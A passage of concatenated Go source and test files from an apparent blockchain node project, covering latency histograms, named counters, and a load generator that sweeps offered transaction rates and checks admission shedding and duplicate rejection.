		t.Fatalf("mean = %v, want %v", got, sum/4)
	}
}

func TestHistogramQuantile(t *testing.T) {
	var h Histogram
	// 99 fast samples, one slow outlier.
	for i := 0; i < 99; i++ {
		h.Observe(time.Microsecond)
	}
	h.Observe(100 * time.Millisecond)
	snap := h.Snapshot()
	if q := snap.Quantile(0.5); q > 2*time.Microsecond {
		t.Fatalf("p50 = %v, want <= 2µs", q)
	}
	if q := snap.Quantile(1.0); q < 50*time.Millisecond {
		t.Fatalf("p100 = %v, want >= 50ms", q)
	}
	var empty HistogramSnapshot
	if q := empty.Quantile(0.5); q != 0 {
		t.Fatalf("empty quantile = %v", q)
	}
}

func TestHistogramNegativeClamped(t *testing.T) {
	var h Histogram
	h.Observe(-time.Second)
	snap := h.Snapshot()
	if snap.Min != 0 || snap.Sum != 0 {
		t.Fatalf("negative sample not clamped: %+v", snap)
	}
}

func TestTimingsRegistry(t *testing.T) {
	var tm Timings
	tm.Observe("a", time.Millisecond)
	tm.Observe("a", 3*time.Millisecond)
	tm.Observe("b", time.Microsecond)
	snap := tm.Snapshot()
	if len(snap) != 2 {
		t.Fatalf("snapshot has %d histograms, want 2", len(snap))
	}
	if snap["a"].Count != 2 || snap["b"].Count != 1 {
		t.Fatalf("counts = %d/%d", snap["a"].Count, snap["b"].Count)
	}
	if s := tm.String(); s == "" {
		t.Fatal("String() empty")
	}
}

func TestTimingsConcurrent(t *testing.T) {
	var tm Timings
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				tm.Observe("phase", time.Duration(i)*time.Microsecond)
			}
		}()
	}
	wg.Wait()
	if got := tm.Snapshot()["phase"].Count; got != 1600 {
		t.Fatalf("count = %d, want 1600", got)
	}
}
