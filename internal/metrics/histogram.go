package metrics

import (
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"
)

// Histogram accumulates a latency distribution: exponential buckets from
// 1µs upwards (doubling per bucket), plus exact count/sum/min/max. The
// zero value is ready to use; Observe is safe for concurrent use, which
// lets validation workers record phase latencies without coordination
// beyond the histogram's own lock.
type Histogram struct {
	mu      sync.Mutex
	count   uint64
	sum     time.Duration
	min     time.Duration
	max     time.Duration
	buckets [histBuckets]uint64
}

// histBuckets covers 1µs << 0 .. 1µs << 20 (~1s) with one overflow
// bucket at the end.
const histBuckets = 22

// bucketBound returns the inclusive upper bound of bucket i; the last
// bucket is unbounded.
func bucketBound(i int) time.Duration {
	return time.Microsecond << uint(i)
}

// Observe records one sample.
func (h *Histogram) Observe(d time.Duration) {
	if d < 0 {
		d = 0
	}
	idx := histBuckets - 1
	for i := 0; i < histBuckets-1; i++ {
		if d <= bucketBound(i) {
			idx = i
			break
		}
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.count == 0 || d < h.min {
		h.min = d
	}
	if d > h.max {
		h.max = d
	}
	h.count++
	h.sum += d
	h.buckets[idx]++
}

// HistogramSnapshot is a consistent copy of a histogram's state.
type HistogramSnapshot struct {
	Count uint64
	Sum   time.Duration
	Min   time.Duration
	Max   time.Duration
	// Buckets holds cumulative-free per-bucket counts; Bounds[i] is the
	// upper bound of Buckets[i] (the last bucket is unbounded).
	Buckets [histBuckets]uint64
}

// Mean returns the average observed duration.
func (s HistogramSnapshot) Mean() time.Duration {
	if s.Count == 0 {
		return 0
	}
	return s.Sum / time.Duration(s.Count)
}

// Quantile estimates the p-quantile (0 < p <= 1) from the buckets,
// returning the upper bound of the bucket the quantile falls in. Good
// enough for observability; not a substitute for exact samples.
func (s HistogramSnapshot) Quantile(p float64) time.Duration {
	if s.Count == 0 {
		return 0
	}
	target := uint64(p * float64(s.Count))
	if target == 0 {
		target = 1
	}
	var cum uint64
	for i, c := range s.Buckets {
		cum += c
		if cum >= target {
			if i == histBuckets-1 {
				return s.Max
			}
			return bucketBound(i)
		}
	}
	return s.Max
}

// Snapshot returns a copy of the histogram's state.
func (h *Histogram) Snapshot() HistogramSnapshot {
	h.mu.Lock()
	defer h.mu.Unlock()
	return HistogramSnapshot{
		Count:   h.count,
		Sum:     h.sum,
		Min:     h.min,
		Max:     h.max,
		Buckets: h.buckets,
	}
}

// Timings is a named set of histograms, the latency companion to
// Counters. The zero value is ready to use.
type Timings struct {
	mu   sync.Mutex
	hist map[string]*Histogram
}

// Histogram returns (creating if needed) the named histogram.
func (t *Timings) Histogram(name string) *Histogram {
	t.mu.Lock()
	defer t.mu.Unlock()
	if t.hist == nil {
		t.hist = make(map[string]*Histogram)
	}
	h, ok := t.hist[name]
	if !ok {
		h = &Histogram{}
		t.hist[name] = h
	}
	return h
}

// Observe records one sample into the named histogram.
func (t *Timings) Observe(name string, d time.Duration) {
	t.Histogram(name).Observe(d)
}

// Snapshot returns a consistent copy of every histogram.
func (t *Timings) Snapshot() map[string]HistogramSnapshot {
	t.mu.Lock()
	names := make([]string, 0, len(t.hist))
	hists := make([]*Histogram, 0, len(t.hist))
	for name, h := range t.hist {
		names = append(names, name)
		hists = append(hists, h)
	}
	t.mu.Unlock()
	out := make(map[string]HistogramSnapshot, len(names))
	for i, name := range names {
		out[name] = hists[i].Snapshot()
	}
	return out
}

// String renders the histograms sorted by name, one summary line each.
func (t *Timings) String() string {
	snap := t.Snapshot()
	names := make([]string, 0, len(snap))
	for name := range snap {
		names = append(names, name)
	}
	sort.Strings(names)
	var b strings.Builder
	for _, name := range names {
		s := snap[name]
		fmt.Fprintf(&b, "%s count=%d mean=%s p95=%s min=%s max=%s\n",
			name, s.Count, s.Mean().Round(time.Nanosecond),
			s.Quantile(0.95), s.Min, s.Max)
	}
	return b.String()
}

// Well-known histogram names emitted by the validation pipeline: the
// per-transaction latency of each phase (docs/VALIDATION.md).
const (
	// ValidateVerify times certificate + endorsement-signature
	// verification (the parallel phase of the pipeline).
	ValidateVerify = "validate_verify"
	// ValidatePolicy times endorsement-policy evaluation (parallel
	// pre-evaluation plus the sequential key-level routing).
	ValidatePolicy = "validate_policy"
	// ValidateMVCC times the version-conflict check (sequential).
	ValidateMVCC = "validate_mvcc"
	// ValidateCommit times world-state commit of valid transactions
	// (sequential).
	ValidateCommit = "validate_commit"
)

// Histogram names emitted by the pipelined ordering service.
const (
	// OrdererConsensus times one raft consensus round (a whole proposal
	// batch from propose to commit).
	OrdererConsensus = "orderer_consensus"
	// OrdererQueueWait times how long a submitted transaction sat in the
	// orderer's queue before its consensus round started.
	OrdererQueueWait = "orderer_queue_wait"
)

// Well-known counter names emitted by the verification cache.
const (
	// VerifyCacheHits counts endorsement verifications served from the
	// identity.VerifyCache.
	VerifyCacheHits = "verify_cache_hits"
	// VerifyCacheMisses counts endorsement verifications that ran the
	// full certificate + signature check.
	VerifyCacheMisses = "verify_cache_misses"
)
