// Package metrics provides lightweight operational counters for nodes:
// proposals endorsed and refused, transactions validated by outcome,
// blocks committed, private data disseminated. Counters are cheap enough
// to stay always-on and are exposed as consistent snapshots.
package metrics

import (
	"fmt"
	"sort"
	"strings"
	"sync"
)

// Counters is a concurrent counter set. The zero value is ready to use.
type Counters struct {
	mu     sync.Mutex
	values map[string]uint64
}

// Inc adds one to the named counter.
func (c *Counters) Inc(name string) { c.Add(name, 1) }

// Add adds delta to the named counter.
func (c *Counters) Add(name string, delta uint64) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.values == nil {
		c.values = make(map[string]uint64)
	}
	c.values[name] += delta
}

// Get returns the named counter's value.
func (c *Counters) Get(name string) uint64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.values[name]
}

// Snapshot returns a copy of every counter.
func (c *Counters) Snapshot() map[string]uint64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make(map[string]uint64, len(c.values))
	for k, v := range c.values {
		out[k] = v
	}
	return out
}

// String renders the counters sorted by name, one per line.
func (c *Counters) String() string {
	snap := c.Snapshot()
	names := make([]string, 0, len(snap))
	for name := range snap {
		names = append(names, name)
	}
	sort.Strings(names)
	var b strings.Builder
	for _, name := range names {
		fmt.Fprintf(&b, "%s=%d\n", name, snap[name])
	}
	return b.String()
}

// Well-known counter names used by the peer and orderer.
const (
	// ProposalsEndorsed counts successful endorsements.
	ProposalsEndorsed = "proposals_endorsed"
	// ProposalsRefused counts proposals that produced no endorsement.
	ProposalsRefused = "proposals_refused"
	// BlocksCommitted counts blocks appended to the peer's chain.
	BlocksCommitted = "blocks_committed"
	// TxValidPrefix prefixes per-validation-code transaction counters,
	// e.g. "tx_VALID", "tx_MVCC_READ_CONFLICT".
	TxValidPrefix = "tx_"
	// BlocksOrdered counts blocks cut by the ordering service.
	BlocksOrdered = "blocks_ordered"
	// TxOrdered counts transactions ordered.
	TxOrdered = "tx_ordered"
)

// Well-known counter names emitted by the pipelined ordering service
// (internal/orderer): submit-queue movement, consensus batching and
// per-peer delivery health. Mean proposal batch size is
// orderer_txs_proposed / orderer_consensus_rounds.
const (
	// OrdererEnqueued counts transactions accepted into the submit queue.
	OrdererEnqueued = "orderer_txs_enqueued"
	// OrdererRounds counts raft consensus rounds driven by the ordering
	// goroutine (each round proposes a whole batch).
	OrdererRounds = "orderer_consensus_rounds"
	// OrdererBatchedTxs counts transactions proposed across all rounds.
	OrdererBatchedTxs = "orderer_txs_proposed"
	// OrdererRejected counts transactions refused because the service
	// was stopped.
	OrdererRejected = "orderer_txs_rejected"
	// OrdererBackpressureWaits counts ordering-loop pauses forced by a
	// peer delivery queue at its bound.
	OrdererBackpressureWaits = "orderer_backpressure_waits"
	// OrdererBlocksEvicted counts blocks dropped from the orderer's
	// bounded retention window (peers replay older blocks from their own
	// block stores).
	OrdererBlocksEvicted = "orderer_blocks_evicted"
)

// Well-known counter names emitted by the private-data reconciler
// (internal/reconcile): per-attempt outcomes and queue movements.
const (
	// ReconcileEnqueued counts (txID, collection) entries newly picked up
	// by the reconciler from the peer's missing-private-data records.
	ReconcileEnqueued = "reconcile_enqueued"
	// ReconcileAttempts counts reconciliation attempts (pulls), whatever
	// the outcome.
	ReconcileAttempts = "reconcile_attempts"
	// ReconcileRecovered counts entries whose original private data was
	// recovered and committed.
	ReconcileRecovered = "reconcile_recovered"
	// ReconcileFailures counts failed attempts (no member could serve a
	// matching original set).
	ReconcileFailures = "reconcile_attempt_failures"
	// ReconcileGiveUps counts entries abandoned after the configured
	// maximum number of attempts.
	ReconcileGiveUps = "reconcile_gave_up"
)

// ReconcileAttempt is the histogram name timing each reconciliation
// attempt (the gossip pull plus hash verification and commit).
const ReconcileAttempt = "reconcile_attempt"

// Well-known counter names emitted by the wire transport
// (internal/wire): frame and byte traffic, codec work, buffer-pool
// effectiveness and event batching. They are process-wide (all
// connections share them) and surface through peer.Metrics().
const (
	// WireFramesIn / WireFramesOut count frames received / enqueued.
	WireFramesIn  = "wire_frames_in"
	WireFramesOut = "wire_frames_out"
	// WireBytesIn / WireBytesOut count framed bytes (header + payload +
	// trailer) received / enqueued.
	WireBytesIn  = "wire_bytes_in"
	WireBytesOut = "wire_bytes_out"
	// WireEncodes / WireDecodes count payload encode / decode
	// operations; WireEncodeNanos / WireDecodeNanos accumulate their
	// total duration, so ns-per-op is Nanos/Count.
	WireEncodes     = "wire_encodes"
	WireDecodes     = "wire_decodes"
	WireEncodeNanos = "wire_encode_ns"
	WireDecodeNanos = "wire_decode_ns"
	// WirePoolHits / WirePoolMisses count buffer-pool outcomes; the hit
	// rate is Hits/(Hits+Misses).
	WirePoolHits   = "wire_pool_hits"
	WirePoolMisses = "wire_pool_misses"
	// WireBatchFrames counts multi-event frames sent; WireBatchedEvents
	// counts the events they carried.
	WireBatchFrames   = "wire_batch_frames"
	WireBatchedEvents = "wire_batched_events"
	// WireJSONFallbacks counts payloads that fell back to the JSON codec
	// on a binary-preferring connection.
	WireJSONFallbacks = "wire_json_fallbacks"
)

// WireEncode / WireDecode are the histogram names timing wire payload
// encode and decode operations.
const (
	WireEncode = "wire_encode"
	WireDecode = "wire_decode"
)

// Well-known counter names emitted by the peer delivery service
// (internal/deliver): stream fan-out and subscriber health.
const (
	// DeliverBlocks counts blocks published to the delivery service.
	DeliverBlocks = "deliver_blocks"
	// DeliverStatuses counts per-transaction commit-status events
	// published.
	DeliverStatuses = "deliver_statuses"
	// DeliverReplayedBlocks counts blocks replayed from the block store
	// into catching-up subscribers (checkpointed replay).
	DeliverReplayedBlocks = "deliver_replayed_blocks"
	// DeliverSubscriptions counts subscriptions opened.
	DeliverSubscriptions = "deliver_subscriptions"
	// DeliverEvictedSlow counts subscribers evicted because their
	// bounded buffer overflowed.
	DeliverEvictedSlow = "deliver_evicted_slow"
)

// Well-known counter names exported from the world state database
// (statedb.Stats, merged into the peer's metrics snapshot).
const (
	// StateDBGets counts point reads, batched version reads included.
	StateDBGets = "statedb_gets"
	// StateDBPuts counts single-key writes.
	StateDBPuts = "statedb_puts"
	// StateDBDeletes counts single-key deletions.
	StateDBDeletes = "statedb_deletes"
	// StateDBRangeScans counts range scans (values or versions-only).
	StateDBRangeScans = "statedb_range_scans"
	// StateDBSnapshots counts consistent read views taken (one per
	// endorsement simulation that reads state).
	StateDBSnapshots = "statedb_snapshots"
	// StateDBCowClones counts namespace states cloned because a live
	// snapshot pinned them when a write arrived.
	StateDBCowClones = "statedb_cow_clones"
	// StateDBBatches counts atomic multi-namespace batch writes.
	StateDBBatches = "statedb_batches"
)

// Histogram names of the world state database (statedb timing observer).
const (
	// StateDBScan times each range scan.
	StateDBScan = "statedb_scan"
	// StateDBBatch times each atomic batch write, locking included.
	StateDBBatch = "statedb_batch"
	// StateDBLockWait times how long batch writes waited for the locks
	// of the namespaces they touch.
	StateDBLockWait = "statedb_lock_wait"
)

// Well-known counter names of the validator's sharded duplicate-TxID
// cache (internal/dedup, merged into the peer's metrics snapshot).
const (
	// DedupHits counts replay lookups answered by the cache — duplicate
	// submissions rejected before signature verification.
	DedupHits = "dedup_hits"
	// DedupMisses counts lookups that fell through to the authoritative
	// block-store index.
	DedupMisses = "dedup_misses"
	// DedupEvicted counts resident transaction IDs displaced at
	// capacity.
	DedupEvicted = "dedup_evicted"
)

// Well-known counter names emitted by the gateway's admission control
// (internal/gateway).
const (
	// GatewayAdmitted counts submissions that passed the token-bucket
	// admission check (or were submitted with admission disabled).
	GatewayAdmitted = "gateway_admitted"
	// GatewayShed counts submissions rejected with ErrOverloaded.
	GatewayShed = "gateway_shed"
	// GatewayFlushes counts targeted orderer flush requests issued by
	// commit waits; the orderer elides those whose transaction no
	// longer sits in the pending partial batch.
	GatewayFlushes = "gateway_flushes"
)

// Well-known counter names emitted by the pipelined ordering service's
// flush path.
const (
	// OrdererFlushesElided counts targeted flush requests dropped
	// because the transaction was no longer in the pending batch when
	// the marker was processed (already cut, typically by a timer or a
	// concurrent waiter's flush).
	OrdererFlushesElided = "orderer_flushes_elided"
)

// Histogram names of the delivery path.
const (
	// DeliverPublish times the fan-out of one committed block to every
	// subscriber.
	DeliverPublish = "deliver_publish"
	// DeliverCommitWait times submit→commit-notified latency: from
	// handing a transaction to the orderer until its final commit-status
	// event arrives on the deliver stream (observed by the gateway).
	DeliverCommitWait = "deliver_commit_wait"
)
