// Package metrics provides lightweight operational counters for nodes:
// proposals endorsed and refused, transactions validated by outcome,
// blocks committed, private data disseminated. Counters are cheap enough
// to stay always-on and are exposed as consistent snapshots.
package metrics

import (
	"fmt"
	"sort"
	"strings"
	"sync"
)

// Counters is a concurrent counter set. The zero value is ready to use.
type Counters struct {
	mu     sync.Mutex
	values map[string]uint64
}

// Inc adds one to the named counter.
func (c *Counters) Inc(name string) { c.Add(name, 1) }

// Add adds delta to the named counter.
func (c *Counters) Add(name string, delta uint64) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.values == nil {
		c.values = make(map[string]uint64)
	}
	c.values[name] += delta
}

// Get returns the named counter's value.
func (c *Counters) Get(name string) uint64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.values[name]
}

// Snapshot returns a copy of every counter.
func (c *Counters) Snapshot() map[string]uint64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make(map[string]uint64, len(c.values))
	for k, v := range c.values {
		out[k] = v
	}
	return out
}

// String renders the counters sorted by name, one per line.
func (c *Counters) String() string {
	snap := c.Snapshot()
	names := make([]string, 0, len(snap))
	for name := range snap {
		names = append(names, name)
	}
	sort.Strings(names)
	var b strings.Builder
	for _, name := range names {
		fmt.Fprintf(&b, "%s=%d\n", name, snap[name])
	}
	return b.String()
}

// Well-known counter names used by the peer and orderer.
const (
	// ProposalsEndorsed counts successful endorsements.
	ProposalsEndorsed = "proposals_endorsed"
	// ProposalsRefused counts proposals that produced no endorsement.
	ProposalsRefused = "proposals_refused"
	// BlocksCommitted counts blocks appended to the peer's chain.
	BlocksCommitted = "blocks_committed"
	// TxValidPrefix prefixes per-validation-code transaction counters,
	// e.g. "tx_VALID", "tx_MVCC_READ_CONFLICT".
	TxValidPrefix = "tx_"
	// BlocksOrdered counts blocks cut by the ordering service.
	BlocksOrdered = "blocks_ordered"
	// TxOrdered counts transactions ordered.
	TxOrdered = "tx_ordered"
)
