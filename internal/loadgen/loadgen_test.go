package loadgen

import (
	"testing"
	"time"

	"repro/internal/metrics"
)

func testConfig() Config {
	return Config{Clients: 4, BatchSize: 16, Seed: 21}
}

// TestRunAllMixes drives a short closed-loop run of every workload mix
// and checks the bookkeeping: all scheduled transactions complete, the
// latency quantiles are populated and ordered, and achieved throughput
// is positive.
func TestRunAllMixes(t *testing.T) {
	for _, mix := range Mixes {
		mix := mix
		t.Run(mix, func(t *testing.T) {
			h, err := NewHarness(testConfig())
			if err != nil {
				t.Fatal(err)
			}
			defer h.Close()

			opts := RunOptions{Mix: mix, TxPerClient: 8}
			if mix == MixLarge {
				opts.ValueBytes = 2048 // keep the short run cheap
			}
			pt, err := h.Run(opts)
			if err != nil {
				t.Fatal(err)
			}
			want := 4 * 8
			// MixConflict submissions can exhaust the mismatch retry budget
			// under pathological interleavings; the bookkeeping must still
			// account for every scheduled transaction.
			if pt.Completed+pt.Dropped != want {
				t.Fatalf("completed+dropped = %d, want %d", pt.Completed+pt.Dropped, want)
			}
			if pt.Completed == 0 {
				t.Fatal("nothing completed")
			}
			if pt.Achieved <= 0 {
				t.Fatalf("achieved_tps = %f, want > 0", pt.Achieved)
			}
			if pt.P50 <= 0 || pt.P95 < pt.P50 || pt.P99 < pt.P95 {
				t.Fatalf("quantiles out of order: p50=%v p95=%v p99=%v", pt.P50, pt.P95, pt.P99)
			}
			if mix == MixConflict && pt.Invalid == 0 {
				t.Log("conflict mix saw no MVCC conflicts in a short run (ok, but unusual)")
			}
		})
	}
}

// TestRunPacedRate: a paced run at a modest rate must not take much less
// wall-clock time than the schedule dictates — proof the token pacing is
// actually spacing submissions out.
func TestRunPacedRate(t *testing.T) {
	h, err := NewHarness(testConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	// 4 clients x 6 tx at 40 tx/s aggregate = at least ~500ms of schedule
	// (each client's 6th submission fires at 5 intervals of 100ms).
	start := time.Now()
	pt, err := h.Run(RunOptions{Mix: MixZipf, TxPerClient: 6, Rate: 40})
	if err != nil {
		t.Fatal(err)
	}
	if elapsed := time.Since(start); elapsed < 400*time.Millisecond {
		t.Fatalf("paced run finished in %v, schedule dictates >= ~500ms", elapsed)
	}
	if pt.Completed != 24 {
		t.Fatalf("completed = %d, want 24", pt.Completed)
	}
}

// TestDuplicateProbesRejected: every duplicate probe's second submission
// must be rejected DUPLICATE_TXID, and the peers' dedup caches must show
// the hits in Metrics().
func TestDuplicateProbesRejected(t *testing.T) {
	h, err := NewHarness(testConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	pt, err := h.Run(RunOptions{Mix: MixZipf, TxPerClient: 8, DuplicateEvery: 4})
	if err != nil {
		t.Fatal(err)
	}
	if pt.DupProbes == 0 {
		t.Fatal("no duplicate probes ran")
	}
	if pt.DupRejected != pt.DupProbes {
		t.Fatalf("dup_rejected = %d, want %d (all probes)", pt.DupRejected, pt.DupProbes)
	}
	var hits uint64
	for _, org := range h.net.Orgs() {
		hits += h.net.Peer(org).Metrics()[metrics.DedupHits]
	}
	if hits == 0 {
		t.Fatal("peer metrics show no dedup cache hits after duplicate submissions")
	}
}

// TestAbandonedHandlesDoNotLeak: handles closed without Status must
// release their deliver subscriptions — after the run every commit
// peer's live-subscriber count returns to zero.
func TestAbandonedHandlesDoNotLeak(t *testing.T) {
	h, err := NewHarness(testConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	pt, err := h.Run(RunOptions{Mix: MixZipf, TxPerClient: 9, AbandonEvery: 3})
	if err != nil {
		t.Fatal(err)
	}
	if pt.Abandoned == 0 {
		t.Fatal("no handles were abandoned")
	}
	// Abandoned handles cost nothing by themselves — each client gateway
	// holds exactly one shared commit-status subscription while open,
	// and closing the harness releases them all.
	net := h.net
	total := 0
	for _, org := range net.Orgs() {
		total += net.Peer(org).Deliver().SubscriberCount()
	}
	if total > h.cfg.Clients {
		t.Fatalf("%d live deliver subscriptions across peers, want at most one per client (%d)", total, h.cfg.Clients)
	}
	if err := h.Close(); err != nil {
		t.Fatal(err)
	}
	for _, org := range net.Orgs() {
		if n := net.Peer(org).Deliver().SubscriberCount(); n != 0 {
			t.Fatalf("%s: %d live deliver subscriptions leaked after Close", org, n)
		}
	}
}

// TestAdmissionShedsUnderPressure: with per-client admission far below
// the unpaced submission rate, the run must shed (and clients retry);
// every scheduled transaction still completes or is counted dropped.
func TestAdmissionShedsUnderPressure(t *testing.T) {
	h, err := NewHarness(testConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	pt, err := h.Run(RunOptions{
		Mix:            MixZipf,
		TxPerClient:    6,
		AdmissionRate:  20, // tokens/s per client; unpaced clients exceed this
		AdmissionBurst: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	if pt.Shed == 0 {
		t.Fatal("admission control shed nothing under an unpaced fleet")
	}
	if got := pt.Completed + pt.Dropped; got != 24 {
		t.Fatalf("completed+dropped = %d, want 24", got)
	}
	if h.counters.Get(metrics.GatewayShed) == 0 {
		t.Fatal("gateway_shed counter did not move")
	}
	// The bucket must be disarmed again after the run.
	pt2, err := h.Run(RunOptions{Mix: MixZipf, TxPerClient: 2})
	if err != nil {
		t.Fatal(err)
	}
	if pt2.Shed != 0 {
		t.Fatalf("admission still armed after run: shed=%d", pt2.Shed)
	}
}

// TestSweepOnKnee: sweeping one mix over an absurdly high offered rate
// relative to a deliberately slowed fixture is not robust in CI, so this
// only checks the sweep plumbing — points come back in order with the
// requested rates and the unpaced ceiling is measured.
func TestSweepOn(t *testing.T) {
	h, err := NewHarness(testConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()

	rates := []float64{20, 40}
	sw, err := SweepOn(h, RunOptions{Mix: MixConflict, TxPerClient: 4}, rates)
	if err != nil {
		t.Fatal(err)
	}
	if sw.Mix != MixConflict {
		t.Fatalf("sweep mix = %q", sw.Mix)
	}
	if len(sw.Points) != len(rates) {
		t.Fatalf("points = %d, want %d", len(sw.Points), len(rates))
	}
	for i, p := range sw.Points {
		if p.OfferedTPS != rates[i] {
			t.Fatalf("point %d offered = %f, want %f", i, p.OfferedTPS, rates[i])
		}
		if p.Completed+p.Dropped != 16 {
			t.Fatalf("point %d completed+dropped = %d, want 16", i, p.Completed+p.Dropped)
		}
	}
	if sw.UnpacedTPS <= 0 {
		t.Fatal("unpaced ceiling not measured")
	}
}

func TestQuantiles(t *testing.T) {
	var samples []time.Duration
	for i := 1; i <= 100; i++ {
		samples = append(samples, time.Duration(i)*time.Millisecond)
	}
	p50, p95, p99 := quantiles(samples)
	if p50 != 50*time.Millisecond || p95 != 95*time.Millisecond || p99 != 99*time.Millisecond {
		t.Fatalf("quantiles = %v %v %v", p50, p95, p99)
	}
	if a, b, c := quantiles(nil); a != 0 || b != 0 || c != 0 {
		t.Fatal("empty-sample quantiles non-zero")
	}
	one := []time.Duration{7 * time.Millisecond}
	if a, _, c := quantiles(one); a != 7*time.Millisecond || c != 7*time.Millisecond {
		t.Fatal("single-sample quantiles wrong")
	}
}
