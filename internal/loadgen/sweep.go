package loadgen

import (
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"repro/internal/metrics"
)

// PointJSON is the committed-artifact form of one sweep point
// (durations in fractional milliseconds).
type PointJSON struct {
	OfferedTPS  float64 `json:"offered_tps"`
	AchievedTPS float64 `json:"achieved_tps"`
	Completed   int     `json:"completed"`
	Invalid     int     `json:"invalid"`
	Shed        uint64  `json:"shed"`
	Dropped     int     `json:"dropped"`
	P50Ms       float64 `json:"p50_ms"`
	P95Ms       float64 `json:"p95_ms"`
	P99Ms       float64 `json:"p99_ms"`
	Knee        bool    `json:"knee,omitempty"`
}

// JSON converts the point to its committed-artifact form; other
// scenarios (the wire benchmark) embed it in their own artifacts.
func (p Point) JSON() PointJSON { return toJSON(p) }

func toJSON(p Point) PointJSON {
	ms := func(d time.Duration) float64 { return float64(d.Nanoseconds()) / 1e6 }
	return PointJSON{
		OfferedTPS:  p.Offered,
		AchievedTPS: p.Achieved,
		Completed:   p.Completed,
		Invalid:     p.Invalid,
		Shed:        p.Shed,
		Dropped:     p.Dropped,
		P50Ms:       ms(p.P50),
		P95Ms:       ms(p.P95),
		P99Ms:       ms(p.P99),
		Knee:        p.Knee,
	}
}

// kneeFraction: a point whose achieved rate falls below this fraction of
// the offered rate marks the knee — the backlog is growing faster than
// the system drains it.
const kneeFraction = 0.9

// MixSweep is the arrival-rate trajectory of one workload mix.
type MixSweep struct {
	Mix    string      `json:"mix"`
	Points []PointJSON `json:"points"`
	// KneeTPS is the offered rate of the first point past the knee; 0
	// when the sweep never saturated.
	KneeTPS float64 `json:"knee_tps,omitempty"`
	// UnpacedTPS is the pure closed-loop ceiling measured after the
	// sweep (rate 0: every client submits back-to-back).
	UnpacedTPS float64 `json:"unpaced_tps"`
}

// Sweep runs one mix across ascending offered rates on a single warm
// harness, then measures the unpaced closed-loop ceiling. The knee is
// the first rate whose achieved throughput drops below kneeFraction of
// offered.
func Sweep(cfg Config, base RunOptions, rates []float64) (MixSweep, error) {
	h, err := NewHarness(cfg)
	if err != nil {
		return MixSweep{}, err
	}
	defer h.Close()
	return SweepOn(h, base, rates)
}

// SweepOn is Sweep against a caller-owned harness.
func SweepOn(h *Harness, base RunOptions, rates []float64) (MixSweep, error) {
	out := MixSweep{Mix: base.withDefaults().Mix}
	for _, rate := range rates {
		opts := base
		opts.Rate = rate
		pt, err := h.Run(opts)
		if err != nil {
			return MixSweep{}, fmt.Errorf("loadgen: sweep %s @ %.0f tx/s: %w", out.Mix, rate, err)
		}
		if out.KneeTPS == 0 && rate > 0 && pt.Achieved < kneeFraction*rate {
			pt.Knee = true
			out.KneeTPS = rate
		}
		out.Points = append(out.Points, toJSON(pt))
	}
	unpaced := base
	unpaced.Rate = 0
	pt, err := h.Run(unpaced)
	if err != nil {
		return MixSweep{}, fmt.Errorf("loadgen: unpaced %s: %w", out.Mix, err)
	}
	out.UnpacedTPS = pt.Achieved
	return out, nil
}

// Mechanisms reports the overload/duplicate machinery exercised by a
// dedicated run: admission shedding, abandoned-handle cleanup and
// dedup-cache rejections, with the relevant server-side counters.
type Mechanisms struct {
	// Run parameters.
	OfferedTPS         float64 `json:"offered_tps"`
	AdmissionPerClient float64 `json:"admission_per_client_tps"`

	Completed   int    `json:"completed"`
	Shed        uint64 `json:"shed"`
	Dropped     int    `json:"dropped"`
	Abandoned   int    `json:"abandoned"`
	DupProbes   int    `json:"dup_probes"`
	DupRejected int    `json:"dup_rejected"`

	// Server-side counters after the run.
	GatewayAdmitted      uint64 `json:"gateway_admitted"`
	GatewayShed          uint64 `json:"gateway_shed"`
	GatewayFlushes       uint64 `json:"gateway_flushes"`
	OrdererFlushesElided uint64 `json:"orderer_flushes_elided"`
	DedupHits            uint64 `json:"dedup_hits"`
	DedupMisses          uint64 `json:"dedup_misses"`
	// LeakedSubscriptions is the commit peers' live deliver-subscription
	// count after every handle completed or was closed — 0 proves the
	// abandon path releases its streams.
	LeakedSubscriptions int `json:"leaked_subscriptions"`
	// MeanBatchSize is tx_ordered / blocks_ordered over the whole
	// harness lifetime — > 1 under concurrent waiters shows the targeted
	// flush preserving batching.
	MeanBatchSize float64 `json:"mean_batch_size"`
}

// MeasureMechanisms runs the machinery demonstration: a paced run with
// per-client admission set to half its fair share (so roughly half the
// arrivals shed and retry), every 5th submission a duplicate probe and
// every 7th an abandoned handle.
func MeasureMechanisms(cfg Config, txPerClient int, rate float64) (Mechanisms, error) {
	cfg = cfg.withDefaults()
	h, err := NewHarness(cfg)
	if err != nil {
		return Mechanisms{}, err
	}
	defer h.Close()

	admission := rate / float64(cfg.Clients) / 2
	pt, err := h.Run(RunOptions{
		Mix:            MixZipf,
		TxPerClient:    txPerClient,
		Rate:           rate,
		DuplicateEvery: 5,
		AbandonEvery:   7,
		AdmissionRate:  admission,
		AdmissionBurst: 1,
	})
	if err != nil {
		return Mechanisms{}, err
	}

	m := Mechanisms{
		OfferedTPS:         rate,
		AdmissionPerClient: admission,
		Completed:          pt.Completed,
		Shed:               pt.Shed,
		Dropped:            pt.Dropped,
		Abandoned:          pt.Abandoned,
		DupProbes:          pt.DupProbes,
		DupRejected:        pt.DupRejected,
		GatewayAdmitted:    h.counters.Get(metrics.GatewayAdmitted),
		GatewayShed:        h.counters.Get(metrics.GatewayShed),
		GatewayFlushes:     h.counters.Get(metrics.GatewayFlushes),
	}
	om := h.net.Orderer.Metrics()
	m.OrdererFlushesElided = om[metrics.OrdererFlushesElided]
	if om[metrics.BlocksOrdered] > 0 {
